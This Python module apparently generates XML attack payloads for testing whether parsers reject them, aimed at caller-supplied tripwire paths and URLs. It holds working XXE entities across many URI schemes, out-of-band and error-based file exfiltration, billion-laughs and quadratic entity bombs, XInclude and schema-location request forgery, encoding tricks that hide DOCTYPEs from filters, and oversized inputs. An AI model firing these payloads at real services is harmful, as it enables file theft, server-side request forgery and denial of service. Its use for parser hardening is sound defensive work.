"""Attacks on readers of XML, each led to a tripwire: `attacks(file, address)` by name.

Facts from OWASP's XXE Prevention and XML Security Cheat Sheets, CWE-611, CWE-776, CWE-400, CWE-91; the texts are ours.
`root` is the element that the door expects, so that what is behind the prologue is met, too.
"""

from __future__ import annotations

XSI = "http://www.w3.org/2001/XMLSchema-instance"
_DECLARATION = '<?xml version="1.0" encoding="{}"?>'


def attacks(file: str, address: str, root: str = "Order", inside: str = "", *, large: bool = True) -> dict[str, bytes]:
    """`file`: a path that nobody may open; `address`: an http URL that nobody may ask."""
    host = address.partition("://")[2]
    texts = _external(file, address, host, root, inside) | _bombs(root, inside) | _led_away(file, address, root, inside)
    return (
        {name: text.encode() for name, text in texts.items()}
        | _hidden(file, root)
        | (_large(root, inside) if large else {})
    )


def _with(subset: str, root: str, inside: str, content: str = "&x;") -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{subset}]>\n<{root}>{inside}{content}</{root}>'


def _external(file: str, address: str, host: str, root: str, inside: str) -> dict[str, str]:
    addresses = {
        "file": f"file://{file}",
        "bare path": file,
        "http": address,
        "ftp": f"ftp://{host}",
        "gopher": f"gopher://{host}",
        "jar": f"jar:{address}!/x",
        "php": f"php://filter/read=convert.base64-encode/resource={file}",
        "expect": "expect://id",
        "netdoc": f"netdoc:{file}",
        "local host": f"file://localhost{file}",
        "unc": f"\\\\127.0.0.1\\{file}",
    }
    general = {
        f"entity by {name}": _with(f'<!ENTITY x SYSTEM "{one}">', root, inside) for name, one in addresses.items()
    }
    exfiltrating = f'<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % d SYSTEM "{address}">%d;'
    return general | {
        "entity by public": _with(f'<!ENTITY x PUBLIC "-//A//B//EN" "file://{file}">', root, inside),
        "entity in an attribute": _with(f'<!ENTITY x SYSTEM "file://{file}">', root, inside, '<a b="&x;"/>'),
        "entity not parsed": _with(
            f'<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file://{file}" NDATA n><!ATTLIST a b ENTITY #IMPLIED>',
            root, inside, '<a b="x"/>',
        ),
        "parameter entity": _with(f'<!ENTITY % p SYSTEM "{address}">%p;', root, inside, ""),
        "parameter entity by file": _with(f'<!ENTITY % p SYSTEM "file://{file}">%p;', root, inside, ""),
        "out of band": _with(exfiltrating, root, inside, ""),
        "nested": _with(
            f'<!ENTITY % a "<!ENTITY &#x25; b SYSTEM \'file://{file}\'>">%a;%b;', root, inside, ""
        ),
        "by an error": _with(
            f'<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e "<!ENTITY &#x25; g SYSTEM \'file:///no/%f;\'>">%e;%g;',
            root, inside, "",
        ),
        "external dtd": f'<!DOCTYPE {root} SYSTEM "{address}"><{root}>{inside}</{root}>',
        "external dtd by file": f'<!DOCTYPE {root} SYSTEM "file://{file}"><{root}>{inside}</{root}>',
        "external dtd by public": f'<!DOCTYPE {root} PUBLIC "-//A//B//EN" "{address}"><{root}>{inside}</{root}>',
        "doctype behind a comment": f'<!-- > --><!DOCTYPE {root} SYSTEM "{address}"><{root}>{inside}</{root}>',
        "doctype in small letters": f'<!doctype {root} SYSTEM "{address}"><{root}>{inside}</{root}>',
        "notation": _with(f'<!NOTATION n SYSTEM "{address}">', root, inside, ""),
    }  # fmt: skip


def _bombs(root: str, inside: str) -> dict[str, str]:
    laughs = '<!ENTITY x0 "lol">' + "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
    squared = f'<!ENTITY x "{"A" * 100_000}">'
    by_parameter = '<!ENTITY % p0 "A">' + "".join(f'<!ENTITY % p{n} "{f"%p{n - 1};" * 10}">' for n in range(1, 9))
    return {
        "billion laughs": _with(laughs, root, inside, "&x9;"),
        "billion laughs in an attribute": _with(laughs, root, inside, '<a b="&x9;"/>'),
        "billion laughs by default": _with(f'{laughs}<!ATTLIST a b CDATA "&x9;">', root, inside, "<a/>"),
        "quadratic": _with(squared, root, inside, "&x;" * 50_000),
        "entity of itself": _with('<!ENTITY x "&y;"><!ENTITY y "&x;">', root, inside),
        "parameters of parameters": _with(f"{by_parameter}%p8;", root, inside, ""),
        "attributes by default": _with(
            "<!ATTLIST a " + " ".join(f'b{n} CDATA "{"A" * 100}"' for n in range(500)) + ">", root, inside,
            "<a/>" * 20_000,
        ),
    }  # fmt: skip


def _led_away(file: str, address: str, root: str, inside: str) -> dict[str, str]:
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    schema = f'xmlns:xsi="{XSI}"'
    return {
        "xinclude of text": f'<{root} {xi}>{inside}<xi:include parse="text" href="file://{file}"/></{root}>',
        "xinclude of xml": f'<{root} {xi}>{inside}<xi:include href="{address}"/></{root}>',
        "xinclude with a fallback": f'<{root} {xi}>{inside}<xi:include href="no:such"><xi:fallback>'
        f'<xi:include parse="text" href="file://{file}"/></xi:fallback></xi:include></{root}>',
        "schema location": f'<{root} {schema} xsi:schemaLocation="urn:x {address}">{inside}</{root}>',
        "schema without namespace": f'<{root} {schema} xsi:noNamespaceSchemaLocation="{address}">{inside}</{root}>',
        "schema by file": f'<{root} {schema} xsi:noNamespaceSchemaLocation="file://{file}">{inside}</{root}>',
        "stylesheet by address": f'<?xml-stylesheet type="text/xsl" href="{address}"?><{root}>{inside}</{root}>',
        "stylesheet by file": f'<?xml-stylesheet type="text/xsl" href="file://{file}"?><{root}>{inside}</{root}>',
        "model by instruction": f'<?xml-model href="{address}"?><{root}>{inside}</{root}>',
        "base elsewhere": f'<{root} xml:base="{address}" {xi}>{inside}<xi:include href="x"/></{root}>',
    }


def _hidden(file: str, root: str) -> dict[str, bytes]:
    """The same DOCTYPE where a search for the word does not find it."""
    plain = f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file://{file}">]><{root} a="1">&x;</{root}>'
    blanks = '<?xml version="1.0"' + " " * 5000
    escaped = plain.replace("<", "+ADw-").replace("!", "+ACE-").replace(">", "+AD4-").replace("[", "+AFs-")
    return {
        "utf-7": (_DECLARATION.format("UTF-7") + escaped).encode(),
        "utf-7 declared late": (f'{blanks} encoding="UTF-7"?>' + escaped).encode(),
        "utf-16": (_DECLARATION.format("UTF-16") + plain).encode("utf-16"),
        "utf-16 without mark": (_DECLARATION.format("UTF-16BE") + plain).encode("utf-16-be"),
        "utf-32": (_DECLARATION.format("UTF-32") + plain).encode("utf-32"),
        "ucs-4 without mark": (_DECLARATION.format("ISO-10646-UCS-4") + plain).encode("utf-32-be"),
        "ebcdic": (_DECLARATION.format("cp037") + plain).encode("cp037"),
        "iso-2022": (_DECLARATION.format("ISO-2022-JP")).encode() + plain.replace("DOC", "D\x1b(BOC").encode(),
        "hz": (_DECLARATION.format("HZ-GB-2312")).encode() + plain.replace("DOC", "D~\nOC").encode(),
        "mark of utf-8 before utf-16": b"\xef\xbb\xbf" + plain.encode("utf-16-le"),
        "overlong utf-8": plain.encode().replace(b"<!", b"\xc0\xbc!"),
    }


def _large(root: str, inside: str) -> dict[str, bytes]:
    opening, closing = f"<{root}>{inside}".encode(), f"</{root}>".encode()
    return {
        "huge attribute": f'<{root} a="'.encode() + b"A" * 12_000_000 + b'"/>',
        "million deep": opening + b"<a>" * 1_000_000,
        "four million elements": opening + b"<a/>" * 4_000_000 + closing,
        "hundred thousand attributes": f"<{root} ".encode() + b" ".join(b'a%d=""' % n for n in range(100_000)) + b"/>",
        "attributes of one hash": f"<{root} ".encode() + b" ".join(b'b="%d"' % n for n in range(100_000)) + b"/>",
        "many namespaces": f"<{root} ".encode() + b" ".join(b'xmlns:a%d="u"' % n for n in range(100_000)) + b"/>",
        "long name": b"<" + b"a" * 5_000_000 + b"/>",
        "long namespace": b'<a xmlns="' + b"u" * 5_000_000 + b'"/>',
        "cdata sections": opening + b"<![CDATA[<]]>" * 1_000_000 + closing,
        "characters by number": opening + b"&#x41;" * 2_000_000 + closing,
        "comments": opening + b"<!---->" * 1_500_000 + closing,
        "instructions": opening + b"<?a?>" * 2_000_000 + closing,
        "comment without end": opening + b"<!--" + b"-" * 5_000_000,
        "blanks before": b" " * 8_000_000 + opening + closing,
    }
